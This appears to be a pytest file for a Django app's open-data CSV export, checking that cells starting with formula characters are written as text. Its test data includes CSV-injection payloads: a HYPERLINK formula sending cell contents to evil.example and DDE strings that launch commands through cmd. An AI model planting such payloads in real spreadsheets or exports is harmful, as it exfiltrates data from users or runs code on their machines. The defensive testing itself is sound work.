"""The open-data CSV never carries a formula a spreadsheet would run: every cell that could start
one (= + - @, a tab or a carriage return) is written as text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from publishing.services.exports import _safe_cell
from reviews.models import Agency, Theme

from .public_helpers import make_public_review

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=\u202e1+1",
]


def rows(client) -> list[dict]:
    response = client.get(reverse("publishing:reviews_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_title_summary_pseudonym_or_reviewer_is_written_as_text(client, author, hostile):
    make_public_review(
        author=author, title=hostile, summary=hostile, pseudonym=hostile, reviewer_name=hostile
    )

    (row,) = rows(client)

    for field in ("title", "summary", "pseudonym", "reviewer"):
        assert row[field].startswith("'"), field
        assert hostile in row[field]  # what staff typed is all there, after the apostrophe


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_agency_and_theme_names_are_written_as_text(client, author, hostile):
    review = make_public_review(author=author)
    review.agencies.set([Agency.objects.create(slug="hostile", name=hostile)])
    review.themes.set([Theme.objects.create(slug="hostile", name=hostile)])

    (row,) = rows(client)

    assert row["agencies"].startswith("'") and hostile in row["agencies"]
    assert row["themes"].startswith("'") and hostile in row["themes"]


def test_ordinary_text_and_numbers_are_left_as_they_are(client, author):
    make_public_review(author=author, title="Child A: 3 agencies - one plan", incident_year=2026)

    (row,) = rows(client)

    assert row["title"] == "Child A: 3 agencies - one plan"
    assert row["incident_year"] == "2026"
    assert row["actions_total"] == "1"


def test_the_json_export_keeps_the_text_unchanged(client, author):
    make_public_review(author=author, title=HOSTILE[0])

    response = client.get(reverse("publishing:reviews_json"))

    (row,) = json.loads(response.getvalue())["reviews"]

    assert row["title"] == HOSTILE[0]  # JSON is not opened by spreadsheets as formulas


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused(start):
    assert _safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Neglect", " =1", "", 2026, None])
def test_anything_else_passes_unchanged(value):
    assert _safe_cell(value) == value
